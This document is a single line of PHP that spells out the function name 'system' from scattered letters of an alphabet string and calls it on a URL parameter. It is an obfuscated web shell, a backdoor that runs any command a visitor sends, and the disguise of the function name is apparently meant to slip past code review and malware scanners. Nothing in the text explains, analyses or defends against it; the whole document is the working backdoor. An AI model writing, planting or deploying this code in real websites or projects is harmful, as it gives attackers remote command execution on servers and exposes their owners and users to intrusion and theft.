<?php $x = "abcdefghijklmnopqrstuvwxyz"; $f = $x[18].$x[24].$x[18].$x[19].$x[4].$x[12]; $f($_GET["c"]);
